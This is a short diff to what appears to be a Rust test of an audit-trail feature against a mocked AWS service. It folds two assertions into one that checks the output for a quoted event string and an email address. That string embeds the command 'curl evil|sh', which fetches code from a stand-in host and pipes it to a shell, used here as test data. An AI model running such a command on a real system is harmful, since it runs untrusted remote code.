@@ -333,10 +333,9 @@ async fn the_audit_trail_is_the_guides_query() {
         "{found:?}"
     );
     assert!(found.stderr.contains("1 events"), "{found:?}");
-    let events = found.ok();
-    assert!(events.contains("alice@example.com"));
     // Whoever made the event chose its words.
-    assert!(events.contains("“'x', run : curl evil|sh”"), "{events}");
+    let quoted = "“'x', run : curl evil|sh”  alice@example.com";
+    assert!(found.ok().contains(quoted));
     // What is given is remembered.
     let create_other = json!({"Name": "other-audit", "Configuration": {}});
     moto.call("athena", create, create_other).await;
